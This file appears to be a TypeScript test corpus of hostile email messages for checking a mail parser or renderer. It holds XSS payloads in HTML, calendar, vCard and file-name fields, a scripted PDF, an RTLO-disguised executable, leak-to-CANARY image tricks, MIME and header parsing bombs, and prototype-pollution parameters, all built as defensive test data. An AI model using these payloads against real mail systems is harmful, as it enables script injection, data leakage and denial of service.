// R13, R16 to R18: parts that run into each other or are opened as what they are not. P1, P2, P6, P7: parts that exhaust.

import { base64, file, htmlType, mail, type Part, parts, plainType } from './mail.ts';
import type { HostileMail, Threat } from './message.ts';

const tag = '<img src=x onerror=RUN>';
const text: Part = [plainType, 'marker'];
const html = (body: string): Part => [htmlType, body];
const multi = (
  threat: Threat,
  title: string,
  subtype: string,
  list: readonly Part[],
  readable = 'marker',
): HostileMail => mail(threat, title, readable, ...parts(subtype, list));

const script = '<!doctype html><script>opener&&(opener.__pwned=1);top.__pwned=1</script>';
const drawing = '<svg xmlns="http://www.w3.org/2000/svg" onload="top.__pwned=1"><image href="CANARY/s"/></svg>';
const pdf = `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(top.__pwned=1;app.launchURL\\("CANARY/p"\\))>>/AA<</WC<</S/URI/URI(CANARY/u)>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[<</Subtype/Link/A<</S/URI/URI(javascript:RUN)>>>>]>>endobj
trailer<</Root 1 0 R>>`;

/** A PNG that says it has 60,000 × 60,000 pixels. */
const hugePicture = Buffer.concat([
  Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
  Buffer.from('0000ea600000ea600802000000', 'hex'),
  Buffer.alloc(64),
]);

const inlinePicture = (type: string, id: string, bytes: string | Uint8Array): Part => [
  `Content-Type: ${type}\nContent-ID: <${id}>\nContent-Disposition: inline\nContent-Transfer-Encoding: base64`,
  base64(bytes),
];

const nested = (depth: number): Part => {
  let inner: Part = text;
  for (let level = 0; level < depth; level++) inner = parts('mixed', [inner], `edge-${level}-edge`);
  return inner;
};

export const partMail: readonly HostileMail[] = [
  multi('R13', 'a secret between two halves of a picture', 'mixed', [
    html('<img src="CANARY/leak?'),
    [plainType, 'marker'],
    html('">'),
  ]),
  multi('R13', 'a comment that swallows the next part', 'mixed', [html('one <!-- '), text]),
  multi('R13', 'a style that swallows the next part', 'mixed', [html('one <style>* {'), text]),
  multi('R13', 'a text area that swallows the next part', 'mixed', [html('<textarea><form action="CANARY/f">'), text]),
  multi('R5', 'a type of tags', 'mixed', [text, file(`image/png"${tag}"; name="x"`, 'x.png', 'x')]),
  multi('R5', 'a file name of tags', 'mixed', [text, file('text/plain', '<script>RUN</script>.txt', 'x')]),
  multi('R5', 'a file name of tags in pieces', 'mixed', [
    text,
    [
      "Content-Type: text/plain\nContent-Disposition: attachment; filename*0*=utf-8''%3Cimg%20src=x; filename*1*=%20onerror%3DRUN%3E",
      'x',
    ],
  ]),
  multi('R5', 'an invitation of tags', 'alternative', [
    text,
    [
      'Content-Type: text/calendar; method=REQUEST; charset=utf-8',
      `BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:x\nDTSTART:20261201T100000Z\nSUMMARY:${tag} marker\nDESCRIPTION:<script>RUN</script>\nX-ALT-DESC;FMTTYPE=text/html:${tag}\nURL:javascript:RUN\nATTACH:CANARY/a\nEND:VEVENT\nEND:VCALENDAR`,
    ],
  ]),
  multi('R5', 'a contact of tags', 'mixed', [
    text,
    file('text/vcard', 'x.vcf', `BEGIN:VCARD\nVERSION:4.0\nFN:${tag}\nPHOTO:CANARY/p\nURL:javascript:RUN\nEND:VCARD`),
  ]),
  mail(
    'R5',
    'a report of tags',
    'marker',
    ...parts('report; report-type=delivery-status', [
      text,
      [
        'Content-Type: message/delivery-status',
        `Reporting-MTA: dns; ${tag}\n\nFinal-Recipient: rfc822; ${tag}\nAction: failed\nStatus: 5.0.0\nDiagnostic-Code: smtp; <script>RUN</script>`,
      ],
    ]),
  ),
  multi('R12', 'a form in a part for other programs', 'alternative', [
    text,
    [
      'Content-Type: text/x-amp-html',
      '<html amp4email><form action-xhr="CANARY/f"><input name=p type=password></form>',
    ],
  ]),
  multi('R14', 'a program that is called a document', 'mixed', [
    text,
    file('application/octet-stream', 'invoice-\u202efdp.exe', 'MZ'),
  ]),
  multi('R16', 'an attached page', 'mixed', [text, file('text/html', 'open-me.html', script)]),
  multi('R16', 'an attached drawing', 'mixed', [text, file('image/svg+xml', 'drawing.svg', drawing)]),
  multi('R16', 'an attached page of XML', 'mixed', [
    text,
    file(
      'application/xhtml+xml',
      'page.xhtml',
      `<html xmlns="http://www.w3.org/1999/xhtml"><script>top.__pwned=1</script></html>`,
    ),
    file('text/xml', 'sheet.xml', '<?xml-stylesheet type="text/xsl" href="CANARY/x.xsl"?><x/>'),
  ]),
  multi('R16', 'a page that says it is a picture', 'mixed', [text, file('image/png', 'picture.png', script)]),
  multi('R16', 'a drawing that wants to be seen in place', 'mixed', [
    text,
    inlinePicture('image/svg+xml', 'd@x', drawing),
  ]),
  multi('R16', 'a message in a message', 'mixed', [
    text,
    [
      'Content-Type: message/rfc822',
      `From: a@x.org\nSubject: ${tag}\n${htmlType}\n\n<script>RUN</script><img src="CANARY/i">`,
    ],
  ]),
  multi('R16', 'a part that lies elsewhere', 'mixed', [
    text,
    ['Content-Type: message/external-body; access-type=URL; URL="CANARY/e"', 'Content-Type: image/png\n\n'],
  ]),
  multi('R17', 'two parts of one name', 'related', [
    html('<img src="cid:one@x" alt="">marker'),
    inlinePicture('text/html', 'one@x', script),
    inlinePicture('image/png', 'one@x', script),
  ]),
  multi('R17', 'a drawing that says it is PNG, in place', 'related', [
    html('<img src="cid:one@x" alt="">marker'),
    inlinePicture('image/png', 'one@x', drawing),
  ]),
  multi('R17', 'a part by its place', 'related', [
    html('<img src="CANARY/part.png"><link rel=stylesheet href="cid:css@x"><iframe src="cid:page@x"></iframe>marker'),
    inlinePicture('text/html', 'page@x', script),
    [`Content-Type: image/png\nContent-Location: CANARY/part.png\nContent-Transfer-Encoding: base64`, base64('x')],
  ]),
  multi('R18', 'a PDF with script', 'mixed', [text, file('application/pdf', 'paper.pdf', pdf)]),
  multi('R18', 'a page that says it is PDF', 'mixed', [text, file('application/pdf', 'paper.pdf', script)]),
  multi('R18', 'a PDF of nonsense', 'mixed', [
    text,
    file('application/pdf', 'paper.pdf', `%PDF-1.4\n${'1 0 obj<</Kids[1 0 R]>>endobj\n'.repeat(2000)}`),
  ]),
  mail('P1', 'sixty parts inside each other', '', ...nested(60)),
  multi('P1', 'fifteen hundred parts', 'mixed', [text, ...Array.from({ length: 1500 }, (): Part => [plainType, 'x'])]),
  mail(
    'P1',
    'three hundred kilobytes of headers',
    'marker',
    `${plainType}\n${`X-Flood: ${'y'.repeat(900)}\n`.repeat(330).trimEnd()}`,
    'marker',
  ),
  mail('P1', 'a header of one endless line', 'marker', `${plainType}\nX-Flood: ${'z'.repeat(60_000)}`, 'marker'),
  mail(
    'P1',
    'five thousand recipients',
    'marker',
    `To: ${Array.from({ length: 5000 }, (_, n) => `p${n}@x.org`).join(',\n ')}\n${plainType}`,
    'marker',
  ),
  mail('P1', 'fifty thousand elements', 'marker', htmlType, `marker${'<b>x</b>'.repeat(30_000)}`),
  mail('P1', 'a tree of six hundred levels', 'marker', htmlType, `${'<div>'.repeat(600)}marker`),
  mail(
    'P2',
    'comments in comments',
    'marker',
    `From: ${'('.repeat(4000)}x${')'.repeat(4000)} sender@attack.example\n${plainType}`,
    'marker',
  ),
  mail('P2', 'groups in groups', 'marker', `To: ${'a:'.repeat(3000)} b@x.org;\n${plainType}`, 'marker'),
  mail(
    'P2',
    'a string without an end',
    'marker',
    `From: "${'\\"'.repeat(3000)} <sender@attack.example>\n${plainType}`,
    'marker',
  ),
  mail(
    'P2',
    'a thousand pieces of a parameter',
    'marker',
    `Content-Type: text/plain; ${Array.from({ length: 1000 }, (_, n) => `charset*${n}=u`).join('; ')}`,
    'marker',
  ),
  mail(
    'P3',
    'a boundary that another begins with',
    'marker',
    'Content-Type: multipart/mixed; boundary="edge"',
    `--edge\n${plainType}\n\nmarker\n--edge-more\n${htmlType}\n\n<script>RUN</script>\n--edge--`,
  ),
  mail(
    'P3',
    'a boundary that never comes',
    'marker',
    'Content-Type: multipart/mixed; boundary="nowhere"',
    'marker <script>RUN</script>',
  ),
  multi('P6', 'a bag of Outlook with nothing in it', 'mixed', [
    text,
    file(
      'application/ms-tnef',
      'winmail.dat',
      Buffer.concat([Buffer.from('789f3e22', 'hex'), Buffer.alloc(4000, 0xff)]),
    ),
  ]),
  multi('P6', 'a picture of sixty thousand by sixty thousand', 'related', [
    html('<img src="cid:huge@x" alt="">marker'),
    inlinePicture('image/png', 'huge@x', hugePicture),
  ]),
  multi('P6', 'an archive that calls itself larger than a disk', 'mixed', [
    text,
    file(
      'application/zip',
      'bomb.zip',
      Buffer.concat([Buffer.from('504b030414000000080000000000', 'hex'), Buffer.alloc(40, 0xff)]),
    ),
  ]),
  mail(
    'P7',
    'parameters of an object',
    'marker',
    'Content-Type: text/plain; __proto__=x; constructor=y; toString=z; charset=utf-8\n__proto__: polluted\nconstructor: x',
    'marker',
  ),
  mail('P7', 'an alphabet that is a property', 'marker', 'Content-Type: text/plain; charset=constructor', 'marker'),
  multi('P7', 'a part that is a property', 'related', [
    html('<img src="cid:__proto__"><img src="cid:constructor">marker'),
    inlinePicture('__proto__/toString', '__proto__', 'x'),
  ]),
];
